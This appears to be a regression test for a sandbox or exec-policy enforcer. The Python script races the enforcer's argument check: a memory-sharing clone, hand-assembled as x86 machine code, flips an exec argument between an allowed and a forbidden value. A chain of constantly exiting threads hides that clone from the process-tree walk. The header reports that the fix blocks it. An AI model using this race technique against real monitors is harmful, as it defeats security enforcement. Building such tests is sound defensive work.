# Attack (review 5, fixed): a clone(CLONE_VM) sharer missed by the tree walk because its parent is a thread
# that keeps changing. stable_walk assumes a process moves between child lists once at most (no
# subreaper); but when a thread exits, its children move to another live thread of the same
# process, any number of times. P (a process that shares nothing with the caller) forks the caller
# Q, Q makes the flipper S with CLONE_VM|CLONE_PARENT (S is a child of P's main thread, like Q), then
# P's main thread turns into a chain of raw threads, each cloning the next and exiting (~10 us
# each; the leader stays a zombie): Q and S move to each new thread. children_tree lists P's threads,
# then reads /proc/P/task/<t>/children of a thread that has usually exited by then, so both walks of
# stable_walk miss S, nothing is stopped, and S (a few instructions flipping argv[1] between
# "hello" and "forbidden") runs through the check, the re-check and the kernel's copy.
# Output: forbidden_printed = echo printed "forbidden" (its exec was judged with "hello").
# Did NOT get through in review 5 (0 of 60; a walk from Python missed the moving child 12 of 2000 times).
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 120, "stdout": ["forbidden_printed=0 "]}
import ctypes, os, select, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.clone.restype = ctypes.c_int
libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p,
                       ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p]
libc.syscall.restype = ctypes.c_long
CLONE_VM, CLONE_PARENT, SIGCHLD = 0x100, 0x8000, 17
MAP_PRIVATE, MAP_ANON, MAP_FIXED_NOREPLACE = 0x02, 0x20, 0x100000
B = 0x7e0000000000
ATTEMPTS = int(sys.argv[1]) if len(sys.argv) > 1 else 20
CHURN = int(os.environ.get("R5_CHURN", "150000"))  # threads per attempt (~10 us each)
MODE = os.environ.get("R5_MODE", "churn")  # "still": control, P's main thread just waits


def flipper_code(addr):
    f = int.from_bytes(b"forbidde", "little")
    n = int.from_bytes(b"n\0\0\0\0\0\0\0", "little")
    h = int.from_bytes(b"hello\0\0\0", "little")
    code = b"\x48\xbf" + addr.to_bytes(8, "little")
    loop = len(code)
    code += b"\x48\xb8" + f.to_bytes(8, "little") + b"\x48\x89\x07"
    code += b"\x48\xb8" + n.to_bytes(8, "little") + b"\x48\x89\x47\x08"
    code += b"\x48\xb8" + h.to_bytes(8, "little") + b"\x48\x89\x07"
    code += b"\xeb" + ((loop - (len(code) + 2)) & 0xff).to_bytes(1, "little")
    return code


def churn_code():
    # rbx = count; loop: clone(thread, same sp); child: loop; parent: exit(0). At 0: exit_group.
    FLAGS = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000
    c = b"\x48\x89\xfb"
    loop = len(c)
    c += b"\x48\xff\xcb"
    jz_done_at = len(c)
    c += b"\x74\x00"
    c += b"\xb8\x38\x00\x00\x00" + b"\xbf" + FLAGS.to_bytes(4, "little")
    c += b"\x31\xf6\x31\xd2\x45\x31\xd2\x45\x31\xc0\x0f\x05\x85\xc0"
    c += b"\x74" + ((loop - (len(c) + 2)) & 0xff).to_bytes(1, "little")
    c += b"\x78" + ((loop - (len(c) + 2)) & 0xff).to_bytes(1, "little")
    c += b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"
    done = len(c)
    c += b"\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05"
    c = bytearray(c)
    c[jz_done_at + 1] = done - (jz_done_at + 2)
    return bytes(c)


def caller(go_r, w_out, ready_w):
    os.dup2(w_out, 1)
    os.dup2(w_out, 2)
    if libc.mmap(B, 0x10000, 3, MAP_PRIVATE | MAP_ANON | MAP_FIXED_NOREPLACE, -1, 0) != B:
        os.write(1, b"MMAP-FAILED\n")
        os._exit(1)
    word = B + 0x1000
    ctypes.memmove(word, b"hello\0\0\0n\0\0\0\0\0\0\0", 16)
    ctypes.memmove(B + 0x1100, b"echo\0", 5)
    ctypes.memmove(B + 0x1200, b"/usr/bin/echo\0", 14)
    argv = (ctypes.c_uint64 * 3).from_address(B + 0x2000)
    argv[0], argv[1], argv[2] = B + 0x1100, word, 0
    (ctypes.c_uint64 * 1).from_address(B + 0x3000)[0] = 0
    code = libc.mmap(None, 4096, 7, MAP_PRIVATE | MAP_ANON, -1, 0)
    body = flipper_code(word)
    ctypes.memmove(code, body, len(body))
    stack = libc.mmap(None, 65536, 3, MAP_PRIVATE | MAP_ANON, -1, 0)
    s = libc.clone(code, stack + 65536 - 64, CLONE_VM | CLONE_PARENT | SIGCHLD, None, None, None, None)
    if s < 0:
        os.write(1, b"CLONE-FAILED\n")
        os._exit(1)
    os.write(ready_w, b"%d\n" % s)
    os.read(go_r, 1)
    libc.syscall(59, ctypes.c_uint64(B + 0x1200), ctypes.c_uint64(B + 0x2000), ctypes.c_uint64(B + 0x3000))
    os.write(1, b"EXECVE-FAILED errno=%d\n" % ctypes.get_errno())
    os._exit(1)


counts = {"forbidden": 0, "hello": 0, "failed": 0, "other": 0}
samples = []
t0 = time.time()
for i in range(ATTEMPTS):
    go_r, go_w = os.pipe()
    r_out, w_out = os.pipe()
    ready_r, ready_w = os.pipe()
    qr_r, qr_w = os.pipe()
    p = os.fork()
    if p == 0:
        q = os.fork()
        if q == 0:
            caller(go_r, w_out, qr_w)
        spid_line = os.read(qr_r, 64)  # S exists (a child of this thread, like Q)
        os.write(ready_w, spid_line)
        if MODE == "churn":
            code = libc.mmap(None, 4096, 7, MAP_PRIVATE | MAP_ANON, -1, 0)
            body = churn_code()
            ctypes.memmove(code, body, len(body))
            ctypes.CFUNCTYPE(None, ctypes.c_long)(code)(CHURN)
        else:
            time.sleep(3)
        os._exit(0)
    os.close(w_out)
    got = b""
    while b"\n" not in got:
        got += os.read(ready_r, 64)
    spid = int(got.split(b"\n")[0])
    time.sleep(0.05)
    os.write(go_w, b"g")
    out = b""
    end = time.monotonic() + 3
    while time.monotonic() < end:
        rd, _, _ = select.select([r_out], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r_out, 65536)
        if not chunk:
            break
        out += chunk
        if b"\n" in out:
            break
    for fd in (r_out, go_r, go_w, ready_r, ready_w, qr_r, qr_w):
        os.close(fd)
    for pid in (spid, p):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    os.waitpid(p, 0)
    key = "failed" if b"EXECVE-FAILED" in out else ("forbidden" if b"forbidden" in out else
                                                    ("hello" if b"hello" in out else "other"))
    counts[key] += 1
    samples.append({"forbidden": "F", "hello": "h", "failed": "x"}.get(key, "?"))
    if key in ("other", "failed") and len(samples) < 50:
        print("sample:", key, out[:120], flush=True)
print(f"mode={MODE} attempts={sum(counts.values())} forbidden_printed={counts['forbidden']} "
      f"hello={counts['hello']} execve_failed={counts['failed']} other={counts['other']} "
      f"secs={time.time() - t0:.1f} seq={''.join(samples)}")
